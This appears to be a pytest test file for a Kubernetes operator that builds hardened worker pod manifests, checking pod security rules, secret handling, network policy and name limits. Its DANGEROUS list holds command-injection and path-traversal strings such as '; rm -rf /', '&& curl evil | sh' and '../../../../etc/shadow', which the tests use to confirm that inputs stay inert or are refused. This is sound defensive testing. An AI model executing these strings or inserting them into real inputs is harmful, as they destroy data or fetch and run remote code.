"""A pool's children: what a cluster's admission, a user and an attacker would look at."""

from __future__ import annotations

import base64
import json
import re
from typing import Any

import pytest
from fakes.cluster_objects import NAME, NAMESPACE, UID, pool
from llmtaskpool_operator.cluster import manifests
from llmtaskpool_operator.cluster.manifests import Surroundings
from llmtaskpool_worker.assembly import settings as worker_settings
from llmtaskpool_worker.contract import CONTROL_PORT, DATA_PORT
from llmtaskpool_worker.execution.dispatcher import TICK_SECONDS
from pydantic import ValidationError

TOKEN = "the-control-token"
AROUND = Surroundings("registry.local/worker:1", TOKEN, "llmtaskpool-system")
LONGEST = "a" * 52
FULL: dict[str, Any] = {
    "models": [{"name": "smol", "source": "hf://org/smol@main", "options": {"dtype": "float32"}}],
    "auth": {"apiKeySecretRef": {"name": "keys-of-chat", "key": "all"}},
    "resources": {
        "requests": {"cpu": "1500m", "memory": "4Gi"},
        "limits": {"cpu": "2500m", "memory": "4Gi", "nvidia.com/gpu": 1},
    },
    "nodeSelector": {"accelerator": "l4"},
    "tolerations": [{"key": "nvidia.com/gpu", "operator": "Exists", "effect": "NoSchedule"}],
    "affinity": {
        "nodeAffinity": {
            "requiredDuringSchedulingIgnoredDuringExecution": {
                "nodeSelectorTerms": [
                    {"matchExpressions": [{"key": "zone", "operator": "In", "values": ["a"]}]}
                ]
            }
        },
        "podAntiAffinity": {
            "preferredDuringSchedulingIgnoredDuringExecution": [
                {
                    "weight": 5,
                    "podAffinityTerm": {
                        "labelSelector": {},
                        "topologyKey": "kubernetes.io/hostname",
                    },
                }
            ]
        },
    },
    "priorityClassName": "high",
    "queue": {"timeoutSeconds": 30},
}
SERVED: dict[str, Any] = {
    "models": [{"name": "chat", "source": "openai:http://127.0.0.1:8002/v1"}],
    "upstream": {"image": "vllm/vllm-openai:v1", "args": ["--port", "8002"]},
}
KINDS = (
    "ServiceAccount",
    "Secret",
    "NetworkPolicy",
    "Service",
    "PodDisruptionBudget",
    "Deployment",
)
DANGEROUS = (
    "; rm -rf /",
    "&& curl evil | sh",
    "$(id)",
    "`id`",
    "${HOME}",
    "| tee /etc/passwd",
    "> /dev/sda",
    "'; --",
    '"quoted"',
    "\\",
    "../../../../etc/shadow",
    "/var/run/docker.sock",
    "/proc/1/root",
    "hostPath: /",
    "--control-host=0.0.0.0",
    "--help",
    "-c",
    "\nprivileged: true",
    "a\tb",
    "*",
    "~root",
    "%s%n",
    "{{ .Values }}",
    "<script>",
    "\u202e\u0000null",
    "!!python/object:os.system",
)


def every(of=None, around: Surroundings = AROUND, replicas: int = 2) -> dict[str, Any]:
    of = of or pool(**FULL)
    made = (*manifests.children(of, around), manifests.deployment(of, around, replicas))
    return {one["kind"]: unmarked(one) for one in made}


def unmarked(child: dict[str, Any]) -> dict[str, Any]:
    """Without the mark of all that it says (tests of the mark are in test_pod_template.py)."""
    annotations = child["metadata"].get("annotations", {})
    annotations.pop(manifests.APPLIED, None)
    if not annotations:
        child["metadata"].pop("annotations", None)
    return child


def pod(**spec: Any) -> dict[str, Any]:
    return every(pool(**spec))["Deployment"]["spec"]["template"]["spec"]


def container(**spec: Any) -> dict[str, Any]:
    (only,) = pod(**spec)["containers"]
    return only


def environment(**spec: Any) -> dict[str, Any]:
    return {one["name"]: one.get("value") for one in container(**spec)["env"]}


# "restricted", rule by rule: kubernetes.io/docs/concepts/security/pod-security-standards


@pytest.mark.parametrize("spec", [{}, FULL, SERVED], ids=["least", "full", "with a server"])
def test_pods_pass_every_rule_of_pod_security_restricted(spec: dict[str, Any]) -> None:
    found = pod(**spec)
    assert not {"hostNetwork", "hostPID", "hostIPC", "hostUsers"} & found.keys()
    assert "ephemeralContainers" not in found
    before = found.get("initContainers", [])
    assert [one["name"] for one in before] == (["upstream"] if "upstream" in spec else [])
    allowed = {
        "configMap",
        "csi",
        "downwardAPI",
        "emptyDir",
        "ephemeral",
        "persistentVolumeClaim",
        "projected",
        "secret",
    }
    for volume in found["volumes"]:
        assert volume.keys() - {"name"} <= allowed, volume
    whole = found["securityContext"]
    assert whole["runAsNonRoot"] is True
    assert whole["runAsUser"] > 0
    assert whole["seccompProfile"] == {"type": "RuntimeDefault"}
    assert not {"sysctls", "seLinuxOptions", "appArmorProfile", "windowsOptions"} & whole.keys()
    for one in found["containers"] + before:
        context = one["securityContext"]
        assert context["allowPrivilegeEscalation"] is False
        assert context["capabilities"] == {"drop": ["ALL"]}
        assert context.keys() <= {
            "allowPrivilegeEscalation",
            "capabilities",
            "readOnlyRootFilesystem",
        }
        assert not any("hostPort" in port or "hostIP" in port for port in one["ports"])
        assert "lifecycle" not in one
        for probe in {"livenessProbe", "readinessProbe", "startupProbe"} & one.keys():
            assert "host" not in one[probe]["httpGet"]
    template = every(pool(**spec))["Deployment"]["spec"]["template"]["metadata"]
    assert "annotations" not in template


def test_pods_get_no_service_account_token() -> None:
    assert pod()["automountServiceAccountToken"] is False
    assert every()["ServiceAccount"]["automountServiceAccountToken"] is False
    assert pod()["serviceAccountName"] == every()["ServiceAccount"]["metadata"]["name"]


def test_the_root_is_read_only_and_what_a_worker_writes_has_a_volume() -> None:
    one = container()
    assert one["securityContext"]["readOnlyRootFilesystem"] is True
    writable = [m["mountPath"] for m in one["volumeMounts"] if not m.get("readOnly")]
    values = environment()
    for name in ("HOME", "HF_HOME", "LLMTASKPOOL_CACHE_DIR"):
        assert any(values[name].startswith(path) for path in writable), name


def test_every_mount_has_its_volume_and_every_volume_its_mount() -> None:
    found = pod(**FULL)
    (only,) = found["containers"]
    mounted = [mount["name"] for mount in only["volumeMounts"]]
    assert sorted(mounted) == sorted(volume["name"] for volume in found["volumes"])


def test_the_control_token_is_a_secret_that_is_mounted_and_never_a_value() -> None:
    made = every()
    name = made["Secret"]["metadata"]["name"]
    assert base64.b64decode(made["Secret"]["data"]["token"]).decode() == TOKEN
    (volume,) = [v for v in pod()["volumes"] if v.get("secret", {}).get("secretName") == name]
    (mount,) = [m for m in container()["volumeMounts"] if m["name"] == volume["name"]]
    assert mount["readOnly"] is True
    assert environment()["LLMTASKPOOL_CONTROL_TOKENS_FILE"] == f"{mount['mountPath']}/token"
    del made["Secret"]
    assert TOKEN not in json.dumps(made)


def test_a_new_control_token_changes_the_secret_and_restarts_no_pod() -> None:
    """A lost key gives every pool a new token; workers read it from their volume."""

    def made(token: str) -> dict[str, Any]:
        return every(around=Surroundings("image", token, "system"))

    assert made("one")["Secret"] != made("other")["Secret"]
    assert made("one")["Deployment"] == made("other")["Deployment"]


def test_api_keys_come_as_a_read_only_file_of_the_named_secret() -> None:
    (volume,) = [v for v in pod(**FULL)["volumes"] if v["name"] == "keys"]
    assert volume["secret"]["secretName"] == "keys-of-chat"
    (item,) = volume["secret"]["items"]
    assert item["key"] == "all"
    (mount,) = [m for m in container(**FULL)["volumeMounts"] if m["name"] == "keys"]
    assert mount["readOnly"] is True
    file = environment(**FULL)["LLMTASKPOOL_API_KEYS_FILE"]
    assert file == f"{mount['mountPath']}/{item['path']}"


def test_a_pool_without_keys_mounts_none() -> None:
    assert "keys" not in [volume["name"] for volume in pod()["volumes"]]
    assert "LLMTASKPOOL_API_KEYS_FILE" not in environment()


@pytest.mark.parametrize("drain", [0, 1, 120, 86_400])
def test_the_grace_period_covers_unrouting_draining_and_some_time_to_close(drain: int) -> None:
    found = pod(scaling={"drainSeconds": drain})
    unroute = int(environment()["LLMTASKPOOL_UNROUTE_SECONDS"])
    assert found["terminationGracePeriodSeconds"] > unroute + drain
    arguments = found["containers"][0]["args"]
    assert float(arguments[arguments.index("--grace-seconds") + 1]) == drain


def test_gpus_and_other_amounts_are_passed_on_as_they_are() -> None:
    assert container(**FULL)["resources"] == FULL["resources"]


def test_a_pool_that_asks_for_nothing_says_nothing() -> None:
    assert "resources" not in container()
    assert not {"nodeSelector", "tolerations", "affinity", "priorityClassName"} & pod().keys()


def test_where_pods_may_run_is_passed_on() -> None:
    found = pod(**FULL)
    for name in ("nodeSelector", "tolerations", "affinity", "priorityClassName"):
        assert found[name] == FULL[name]


@pytest.mark.parametrize(
    ("limits", "requests", "threads"),
    [
        ({"cpu": "4"}, {}, "4"),
        ({"cpu": 4}, {}, "4"),
        ({"cpu": "2500m"}, {}, "3"),
        ({"cpu": "100m"}, {}, "1"),
        ({}, {"cpu": "6"}, "6"),
        ({"cpu": "2"}, {"cpu": "1"}, "2"),
        ({"memory": "1Gi"}, {}, None),
    ],
)
def test_a_limit_of_cores_bounds_the_math_librarys_threads(
    limits: dict, requests: dict, threads: str | None
) -> None:
    values = environment(resources={"limits": limits, "requests": requests})
    assert values.get("OMP_NUM_THREADS") == threads
    assert values.get("MKL_NUM_THREADS") == threads


def test_the_pools_image_goes_before_the_operators() -> None:
    assert container()["image"] == AROUND.image
    assert container(image="mine:2")["image"] == "mine:2"


def test_each_worker_knows_the_name_of_its_pod() -> None:
    (named,) = [e for e in container()["env"] if e["name"] == "LLMTASKPOOL_WORKER_ID"]
    assert named["valueFrom"]["fieldRef"]["fieldPath"] == "metadata.name"


def test_no_environment_variable_is_set_twice() -> None:
    names = [one["name"] for one in container(**FULL)["env"]]
    assert len(names) == len(set(names))


@pytest.mark.parametrize("kind", KINDS)
def test_names_and_labels_of_the_longest_pool_name_are_within_kubernetes_limits(kind: str) -> None:
    found = every(pool(LONGEST))[kind]
    name = found["metadata"]["name"]
    assert re.fullmatch(r"[a-z0-9]([-a-z0-9.]*[a-z0-9])?", name)
    # A Service's name is a label of DNS; those of the others are subdomains.
    assert len(name) <= (63 if kind in ("Service", "Deployment") else 253)
    for key, value in found["metadata"]["labels"].items():
        prefix, _, last = key.rpartition("/")
        assert len(prefix) <= 253
        assert 0 < len(last) <= 63
        assert len(value) <= 63
        assert re.fullmatch(r"[A-Za-z0-9]([-A-Za-z0-9_.]*[A-Za-z0-9])?", value)


def test_names_within_a_pod_are_within_kubernetes_limits() -> None:
    found = pod(**FULL)
    (only,) = found["containers"]
    for port in only["ports"]:
        assert re.fullmatch(r"[a-z0-9-]{1,15}", port["name"])
    for volume in found["volumes"]:
        assert re.fullmatch(r"[a-z0-9-]{1,63}", volume["name"])


@pytest.mark.parametrize("kind", KINDS)
def test_every_child_is_plain_json_and_owned_by_its_pool(kind: str) -> None:
    found = every()[kind]
    assert json.loads(json.dumps(found, allow_nan=False)) == found
    (owner,) = found["metadata"]["ownerReferences"]
    assert owner["controller"] is True
    assert owner["blockOwnerDeletion"] is True
    assert (owner["kind"], owner["name"], owner["uid"]) == ("LLMTaskPool", NAME, UID)
    assert found["metadata"]["namespace"] == NAMESPACE


def test_the_deployment_is_made_after_all_that_its_pods_need() -> None:
    assert "Deployment" not in [one["kind"] for one in manifests.children(pool(), AROUND)]
    assert set(every()) == set(KINDS)


def strings(value: Any) -> list[str]:
    if isinstance(value, dict):
        return [*value, *(text for one in value.values() for text in strings(one))]
    if isinstance(value, list):
        return [text for one in value for text in strings(one)]
    return [value] if isinstance(value, str) else []


WORD = "a-harmless-word"


def replaced(value: Any, text: str) -> Any:
    """A manifest with WORD in its strings, never in its keys, replaced by ``text``."""
    if isinstance(value, dict):
        return {key: replaced(one, text) for key, one in value.items()}
    if isinstance(value, list):
        return [replaced(one, text) for one in value]
    return value.replace(WORD, text) if isinstance(value, str) else value


@pytest.mark.parametrize("text", ["\nprivileged: true", "a,task=embed", "a\rb"])
def test_text_that_would_end_an_argument_is_refused(text: str) -> None:
    for field in ({"source": text}, {"source": "a", "options": {"a": text}}):
        with pytest.raises(ValidationError, match="pattern"):
            pool(models=[{"name": "m", **field}])


@pytest.mark.parametrize("text", [text for text in DANGEROUS if "\n" not in text])
def test_dangerous_text_in_the_spec_stays_one_argument(text: str) -> None:
    def made(text: str) -> dict[str, Any]:
        model = {"name": "m", "source": text, "options": {"a": text}}
        return every(pool(models=[model]))

    written = text.replace("$", "$$")  # else Kubernetes would put a variable in its place
    assert made(text) == replaced(made(WORD), written)  # nothing else changed
    arguments = made(text)["Deployment"]["spec"]["template"]["spec"]["containers"][0]["args"]
    # It follows an option and begins with a name, so it can't be taken for an option.
    assert arguments[arguments.index(f"m={written},a={written}") - 1] == "--model"


@pytest.mark.parametrize("text", DANGEROUS)
def test_dangerous_text_as_image_changes_nothing_else(text: str) -> None:
    def made(text: str) -> dict[str, Any]:
        return every(pool(image=text))

    assert made(text) == replaced(made(WORD), text)
    assert made(text)["Deployment"]["spec"]["template"]["spec"]["containers"][0]["image"] == text


@pytest.mark.parametrize("text", DANGEROUS)
@pytest.mark.parametrize(
    "field",
    [
        lambda text: {"nodeSelector": {"a": text}},
        lambda text: {"nodeSelector": {text: "a"}},
        lambda text: {"tolerations": [{"key": "k", "value": text}]},
        lambda text: {"podLabels": {"a": text}},
        lambda text: {"podAnnotations": {text: "a"}},
        lambda text: {"env": [{"name": text, "value": "a"}]},
        lambda text: {"runtimeClassName": text},
        lambda text: {"cache": {"claimName": text}},
    ],
    ids=[
        "node label",
        "node label's key",
        "toleration",
        "pod label",
        "annotation's key",
        "variable's name",
        "runtime class",
        "claim",
    ],
)
def test_dangerous_text_is_no_label_and_no_name(field: Any, text: str) -> None:
    with pytest.raises(ValidationError):
        pool(**field(text))


@pytest.mark.parametrize("text", DANGEROUS)
def test_dangerous_text_as_a_variables_value_stays_a_value(text: str) -> None:
    env = container(env=[{"name": "NOTE", "value": text}])["env"]
    assert env[0] == {"name": "NOTE", "value": text.replace("$", "$$")}


def test_no_shell_is_named_anywhere() -> None:
    words = {word for text in strings(every()) for word in re.split(r"[^\w]+", text)}
    assert not words & {"sh", "bash", "ash", "busybox"}
    assert "command" not in container(**FULL)


def test_a_volume_is_never_one_of_the_nodes() -> None:
    assert "hostPath" not in strings(every())


def test_the_labels_that_select_pods_never_change() -> None:
    """A Deployment's selector is immutable: another one would need every pool made anew."""
    fixed = {"app.kubernetes.io/name": "llmtaskpool-worker", "llmtaskpool.io/pool": NAME}
    assert manifests.selector_labels(NAME) == fixed
    assert (
        manifests.selector(NAME)
        == "app.kubernetes.io/name=llmtaskpool-worker,llmtaskpool.io/pool=chat"
    )
    made = every()
    assert made["Deployment"]["spec"]["selector"] == {"matchLabels": fixed}
    assert made["PodDisruptionBudget"]["spec"]["selector"] == {"matchLabels": fixed}
    assert made["NetworkPolicy"]["spec"]["podSelector"] == {
        "matchLabels": {"llmtaskpool.io/pool": NAME}  # workers and the gate; it may change
    }
    assert made["Service"]["spec"]["selector"] == fixed


def test_what_is_selected_is_what_pods_are_labelled_with() -> None:
    labels = every()["Deployment"]["spec"]["template"]["metadata"]["labels"]
    assert manifests.selector_labels(NAME).items() <= labels.items()


def test_the_service_leads_to_the_data_port_and_never_to_the_control_port() -> None:
    (port,) = every()["Service"]["spec"]["ports"]
    named = {one["name"]: one["containerPort"] for one in container()["ports"]}
    assert named[port["targetPort"]] == DATA_PORT
    assert CONTROL_PORT not in (port["port"], port["targetPort"])


def test_only_the_operators_namespace_reaches_the_control_port() -> None:
    spec = every()["NetworkPolicy"]["spec"]
    assert spec["policyTypes"] == ["Ingress"]
    rules = {rule["ports"][0]["port"]: rule for rule in spec["ingress"]}
    assert all(len(rule["ports"]) == 1 for rule in spec["ingress"])
    assert "from" not in rules[DATA_PORT]
    (source,) = rules[CONTROL_PORT]["from"]
    labels = source["namespaceSelector"]["matchLabels"]
    assert labels == {"kubernetes.io/metadata.name": "llmtaskpool-system"}


def test_a_rollout_takes_no_pod_away_before_a_new_one_is_ready() -> None:
    strategy = every()["Deployment"]["spec"]["strategy"]["rollingUpdate"]
    assert strategy["maxUnavailable"] == 0
    assert strategy["maxSurge"] == "25%"


@pytest.mark.parametrize("replicas", [0, 1, 7])
def test_replicas_are_those_asked_for_and_change_nothing_else(replicas: int) -> None:
    found = every(replicas=replicas)["Deployment"]
    assert found["spec"]["replicas"] == replicas
    found["spec"]["replicas"] = 2
    assert found == every()["Deployment"]


def test_a_hung_engine_is_seen_then_restarted_long_before_its_pod_is_ended() -> None:
    """The clocks of a worker's settings and of its pod's probes, as they are by default."""
    clocks = worker_settings.load().pool_limits()
    container = manifests.deployment(pool(), AROUND, 1)["spec"]["template"]["spec"]["containers"][0]

    def latest(probe: dict[str, Any]) -> float:
        """Seconds from what a route begins to answer to what the kubelet does about it."""
        rounds = probe["periodSeconds"] * probe["failureThreshold"]
        return float(rounds + probe["timeoutSeconds"])

    def soonest(probe: dict[str, Any]) -> float:
        return float(probe["periodSeconds"] * (probe["failureThreshold"] - 1))

    first_sign = clocks.stall_seconds + TICK_SECONDS + latest(container["readinessProbe"])
    killed = clocks.stall_kill_seconds + TICK_SECONDS
    pod_ends = clocks.dead_seconds + soonest(container["livenessProbe"])
    assert first_sign <= 15.0
    assert first_sign < killed
    assert killed + 30.0 <= clocks.dead_seconds + TICK_SECONDS, "time for the kill to help"
    assert killed + 45.0 <= pod_ends
    assert not any("STALL" in one["name"] for one in container["env"])
